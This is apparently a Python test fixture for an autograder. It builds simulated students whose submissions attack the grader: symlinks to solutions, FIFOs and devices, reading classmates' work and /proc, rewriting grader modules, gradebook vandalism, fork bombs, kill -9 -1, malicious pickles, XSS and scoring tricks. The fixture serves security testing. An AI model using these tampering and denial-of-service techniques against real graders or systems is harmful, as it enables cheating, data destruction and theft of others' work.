    nbformat.write(nbformat.convert(nbformat.read(path, as_version=4), 3), path, version=3)
    (folder / ".DS_Store").write_bytes(b"\0\0\0\1Bud1" + bytes(100))
    (folder / "__MACOSX").mkdir()
    (folder / "__MACOSX" / f"._{STEM}.ipynb").write_bytes(b"\0\5\x16\7" + bytes(100))
    (folder / ".ipynb_checkpoints").mkdir()
    (folder / ".ipynb_checkpoints" / f"{STEM}-checkpoint.ipynb").symlink_to(path)
    (folder / "Thumbs.db").write_bytes(bytes(64))


def _append_cells(*sources: str, markdown_mb: int = 0) -> Callable[[dict], None]:
    def edit(nb: dict) -> None:
        for index, source in enumerate(sources):
            _cells(nb).append(_code_cell(f"after-tests-{index}", source))
        if markdown_mb:
            _cells(nb).append({"cell_type": "markdown", "id": "long-notes", "metadata": {},
                               "source": "My notes. " * (markdown_mb * 2**20 // 10)})
    return edit


def intake_students(relu: str) -> list[Student]:
    """Students whose submitted folder is the attack, or whose honest notebook floods or is old."""
    zero, full = (0.0, 0.0), (2.0, 3.0)
    return [
        Student("link_classmate", "intake", None, zero, ["the notebook is a link to a classmate's notebook"],
                plant=_replace_notebook(lambda course, path: path.symlink_to(
                    course / "submitted" / "honest_solved" / ASSIGNMENT / f"{STEM}.ipynb")), flags=REFUSED),
        Student("link_solutions", "intake", None, zero, ["the notebook is a link to solutions/ (the source)"],
                plant=_replace_notebook(lambda course, path: path.symlink_to(
                    course / "solutions" / ASSIGNMENT / f"{STEM}.ipynb")), flags=REFUSED),
        Student("link_outside", "intake", None, zero, ["the notebook is a link to a file outside the course"],
                plant=_replace_notebook(lambda course, path: path.symlink_to(_outside_notebook(course))),
                flags=REFUSED),
        Student("link_urandom", "intake", None, zero, ["the notebook is a link to /dev/urandom"],
                plant=_replace_notebook(lambda course, path: path.symlink_to("/dev/urandom")), flags=REFUSED),
        Student("link_folder", "intake", None, zero, ["the assignment folder is a link to solutions/"],
                plant=_folder_linked_to_solutions, flags=["the assignment folder is a symbolic link"]),
        Student("fifo", "intake", None, zero, ["the notebook is a FIFO (reading it would block the grader)"],
                plant=_replace_notebook(lambda course, path: os.mkfifo(path)), flags=REFUSED),
        Student("device", "intake", None, zero, ["the notebook is a device node (/dev/urandom's numbers)"],
                plant=_replace_notebook(_device), flags=REFUSED),
        Student("huge_notebook", "intake", relu, zero, ["a solved notebook padded to 200 MB"],
                plant=_sparse_200_mb, flags=["over the 32 MiB limit"]),
        Student("mac_zip_nbformat3", "honest", relu, full,
                ["a solved notebook saved as nbformat 3, with .DS_Store, __MACOSX/, .ipynb_checkpoints/ (a link) and "
                 "Thumbs.db beside it"], plant=_mac_zip_of_an_old_notebook,
                flags=["upgraded from nbformat 3.0", "skipped .DS_Store", "skipped __MACOSX/"]),
        Student("prints_300_mb", "honest", relu, full, ["300 MB of prints in a cell after the tests"],
                edit=_append_cells(PRINT_300_MB)),
        Student("exception_100_mb", "feedback", relu, full,
                ["a 100 MB exception message, and a 24 MB markdown cell"],
                edit=_append_cells(RAISE_100_MB, markdown_mb=BIG_MARKDOWN_MB)),
    ]


#: Entries of submitted/ that are not graded (no job), with the start of the reason the run's report gives.
def plant_strays(course: Path) -> dict[str, str]:
    """Stray files, bad ids and links at the top of ``submitted/``; the bad ids hold solved notebooks, so a
    grader that took them as globs or options would grade (or wipe) classmates."""
    submitted = course / "submitted"
    (submitted / ".DS_Store").write_bytes(b"\0\0\0\1Bud1" + bytes(100))
    (submitted / "__MACOSX" / "honest_solved").mkdir(parents=True)
    for bad in ("--help", "[0]*", "...", "honest_solved "):
        submit(course, bad, ASSIGNMENT, {f"{STEM}.ipynb": {FUNCTION: solution()}})
    (submitted / "mallory").symlink_to(submitted / "honest_solved", target_is_directory=True)
    os.mkfifo(submitted / "pipe")
    (submitted / "stranger" / "unknown-assignment").mkdir(parents=True)
    return {".DS_Store": "a macOS folder-view file", "__MACOSX": "macOS archive metadata",
            "--help": "not a valid student id", "[0]*": "not a valid student id", "...": "not a valid student id",
            "honest_solved ": "not a valid student id", "mallory": "a symbolic link", "pipe": "a FIFO",
            "stranger/unknown-assignment": "not an assignment of this course"}


# --- the roster -------------------------------------------------------------------------------------------------
def students() -> list[Student]:
    relu = solution()
    full, zero = (2.0, 3.0), (0.0, 0.0)
    unconfirmed = ["could not be confirmed"]
    return [
        # honest students
        Student("honest_solved", "honest", relu + f"\n# my own notes, not for classmates: {CANARY_CLASSMATE}\n",
                full),
        Student("honest_blank", "honest", None, zero),
        Student("honest_wrong", "honest", WRONG, zero),
        Student("honest_helper_and_copy", "honest", "def relu_forward(Z):\n    return _relu_helper(Z)\n", full,
                ["a helper function in an extra cell above the answer",
                 "a copy of the visible test cell pasted below it (a duplicated grade id)"],
                edit=_helper_cell_and_paste_below, flags=["repaired"]),
        Student("honest_copy_above", "honest", relu, full,
                ["a copy of the visible test cell pasted above the answer (a duplicated grade id)"],
                edit=_paste_above_answer, flags=["repaired"]),
        Student("honest_ipython", "honest", "%matplotlib inline\ndisplay('my relu, first try')\n" + relu
                + "display(relu_forward(np.array([-1.0, 2.0])))\n", full,
                ["IPython features in the answer cell: a line magic and display()"]),
        # reading what is not theirs
        Student("reader", "read", relu + READ_FILES + READ_PROCESSES + LEAK_HOOK, full,
                ["print classmates' submitted notebooks", "print other students' autograded notebooks and marks",
                 "print the gradebook's rows (sqlite3)", "print solutions/ (later assignments, hidden tests)",
                 "print autograder/ and the repository's own solutions", "search the file system for secrets",
                 "print the environment", "print every process's command line and environment (/proc)",
                 "reach the grader's files through /proc/1/root and /proc/1/cwd",
                 "print the hidden tests as the kernel runs them (pre/post_run_cell hooks)",
                 "print the kernel's input history (In, %history) in a cell after the tests"],
                edit=_append_history_cell),
        # rewriting the grader
        Student("rewrite_grader", "rewrite", SUBTLY_WRONG + REWRITE_GRADER, zero,
                ["append a passing check to trainsys/grading/__init__.py, mlp.py, _harness.py",
                 "append to trainsys/autograde/feedback.py and decide.py",
                 "append to autograder/nbgrader_config.py",
                 "a .pth, a module and sitecustomize.py in site-packages",
                 "tqdm.py, numpy.py, nbgrader.py, sitecustomize.py in the course root, repository, cwd, home, /tmp",
                 "an IPython start-up file in home"],
                flags=["fails the trusted re-check"]),
        # touching classmates
        Student("vandal", "classmates", relu + VANDAL, full,
                ["overwrite and delete classmates' submitted notebooks", "overwrite their autograded notebooks",
                 "fake their completion marks (.trainsys.json)", "rewrite the gradebook (sqlite3 update/insert/delete)",
                 "rewrite reports/", "delete feedback/"]),
        # outliving the run, bombs
        Student("daemons", "outlive", relu + DAEMONS, full,
                ["a double-forked setsid daemon that rewrites classmates' files 25 s later",
                 "200 forked sleepers", "a forked child holding the kernel's stdout/stderr", "a nohup'd job"]),
        Student("killer", "outlive", relu + KILLER, zero,
                ["SIGKILL the parent, pid 1 and the parent's process group", "SIGTERM every visible process",
                 "kill -9 -1"], flags=unconfirmed),
        Student("fork_bomb", "outlive", FORK_BOMB, zero,
                ["a bash fork bomb", "fork sleepers until the process table is full"]),
        Student("bombs", "outlive", relu + BOMBS, full,
                ["1 GiB files in /tmp, home and /dev/shm", "1 GiB into the kernel's socket folder (the grader's disk)",
                 "allocate memory until refused", "one 64 GiB allocation",
                 "8 GB down each of the kernel's stdout and stderr (the grader's pipes)"]),
        Student("memory_fan_out", "outlive", WRONG + MEMORY_FAN_OUT.replace("@N@", "6"), zero,
                ["six processes of 0.8 GB in one sandbox (past its memory cap)"], flags=["memory limit"]),
        Student("memory_flood", "outlive", WRONG + MEMORY_FAN_OUT.replace("@N@", str(machine_fan_out())), zero,
                [f"{machine_fan_out()} processes of 0.8 GB (more than the machine's memory)"], flags=["memory limit"]),
        *[Student(name, "reference", answer, zero, [f"the reference by {name.split('_', 1)[1]}"],
                  flags=["withheld while grading"]) for name, answer in REFERENCE_ROUTES.items()],
        # the re-check's channel
        Student("channel_garbage", "channel", relu + CHANNEL_GARBAGE, zero,
                ["a pickle and garbage on fd 1 and /proc/self/fd/1, at import time and during the call (in the "
                 "kernel, bytes that are not UTF-8 on the grader's pipes)",
                 "garbage and a pickle on the real channel during the call (visible tests)",
                 "a 4 GiB blob streamed down the real channel (hidden check)"], flags=unconfirmed),
        Student("channel_pickles", "channel", relu + CHANNEL_PICKLES, zero,
                ["a well-framed reply whose tensor blob is a torch file holding a code-running pickle (visible)",
                 "a well-framed reply whose array blob is an object .npy, a pickle (hidden)"], flags=unconfirmed),
        Student("exit_or_close", "channel", relu + EXIT_OR_CLOSE, zero,
                ["os._exit(0) on the first call (visible)", "close fds 0, 1, 2 and the channel in the call (hidden)"],
                flags=unconfirmed),
        Student("unencodable", "channel", relu + UNENCODABLE, zero,
                ["return a lambda", "return an instance of its own class"]),
        Student("huge_results", "channel", relu + HUGE, zero,
                ["return lists nested 10 000 deep", "return two million numbers in nested lists"],
                flags=unconfirmed),
        # nbgrader's scoring rules
        Student("display_tricks", "scoring", DISPLAY_TRICKS, zero,
                ["sys.displayhook and execute_result partial credit (every later cell ends with 2.0)",
                 "patch numpy.testing and trainsys.grading lazily, on the first call"],
                flags=["fails the trusted re-check"]),
        Student("strip_metadata", "scoring", PATCH_EVERYTHING, zero,
                ["delete the answer cell's nbgrader metadata and rename its id",
                 "patch numpy.testing and trainsys.grading in the kernel"],
                edit=_strip_answer_metadata, flags=["found by position", "replaced"]),
        Student("own_graded_cell", "scoring", PATCH_EVERYTHING, zero,
                ["an own cell marked as a graded test worth 100 points",
                 "the test cells' points changed to 200 and 300"], edit=_own_graded_cell),
        Student("answer_marked_graded", "scoring", relu, full,
                ["the (correct) answer cell marked as a graded cell worth 50 points"], edit=_answer_marked_graded),
        # the submission folder as a file system (issue 23): links, a FIFO, a device, floods, old formats
        *intake_students(relu),
        # feedback pages
        Student("xss", "feedback", relu + XSS_OUTPUTS, full,
                ["<script>, <img onerror>, javascript: links, iframes, meta refresh, remote images, CSS and forms "
                 "in an HTML output", "script, onload, javascript: links, remote images, foreignObject in SVG",
                 "javascript: links, remote images and raw HTML in a Markdown output",
                 "a JavaScript output and a widget view", "the same in markdown cells and a markdown attachment"],
                edit=_markdown_cell),
    ]


def resubmitter_first() -> Student:
    """Zeroed for tampering (a wrong answer and patched tests) before resubmitting a correct one."""
    return Student("resubmitter", "honest", PATCH_EVERYTHING, (0.0, 0.0), ["tampering, then a correct resubmission"])


def submit_student(course: Path, student: Student) -> Path:
    """Write one student's submission (paths the attacks aim at filled in)."""
    answer = None if student.answer is None else (
        student.answer.replace("@COURSE@", str(course)).replace("@REPO@", str(REPO))
        .replace("@SITE@", site_packages()).replace("@PWNED@", PWNED))
    folder = submit(course, student.name, ASSIGNMENT,
                    {f"{STEM}.ipynb": {FUNCTION: answer}} if answer is not None else None)
    if student.edit is not None:
        path = folder / f"{STEM}.ipynb"
        nb = json.loads(path.read_text())
        student.edit(nb)
        path.write_text(json.dumps(nb))
    if student.plant is not None:
        student.plant(course, folder)
    return folder


def submit_class(course: Path, roster: list[Student]) -> None:
    for student in roster:
        submit_student(course, student)


def copy_course(course: Path, target: Path) -> Path:
    """A fresh course with the same sources, release and gradebook (no submissions)."""
    target.mkdir(parents=True)
    for name in ("solutions", "notebooks"):
        shutil.copytree(course / name, target / name)
    shutil.copy(course / "gradebook.db", target / "gradebook.db")
    return target
